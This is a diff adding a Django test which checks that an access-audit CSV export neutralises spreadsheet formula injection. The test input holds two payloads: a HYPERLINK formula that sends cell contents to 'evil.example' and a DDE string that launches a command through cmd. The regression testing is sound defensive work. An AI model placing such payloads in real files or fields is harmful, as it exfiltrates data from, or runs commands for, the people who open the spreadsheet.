@@ -241,3 +241,22 @@ def test_audit_csv_export(finance_user, support_user, django_assert_max_num_quer
     assert len(rows) == 4
     assert {r["to_status"] for r in rows} == {"grace_period"}
     assert rows[0]["actor"] == "ops@janitor.test" and rows[0]["reference"] == "ref-1"
+
+
+def test_audit_csv_cannot_carry_a_formula(finance_user, customer, support_user, second_admin):
+    """A reason or reference a spreadsheet would run comes out as text (issue 14, finding 3)."""
+    revocation = revocation_request(
+        account=customer,
+        requested_by=support_user,
+        reason='=HYPERLINK("http://evil.example/?"&A2,"Click")',
+        reference="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    revocation_approve(revocation_id=revocation.pk, approver=second_admin)
+    response = _client_as(finance_user).get("/access-audit/", {"format": "csv"})
+    assert response.status_code == 200
+    assert response["Content-Disposition"] == 'attachment; filename="access-audit.csv"'
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert {row["reason"] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&A2,"Click")'}
+    assert {row["reference"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
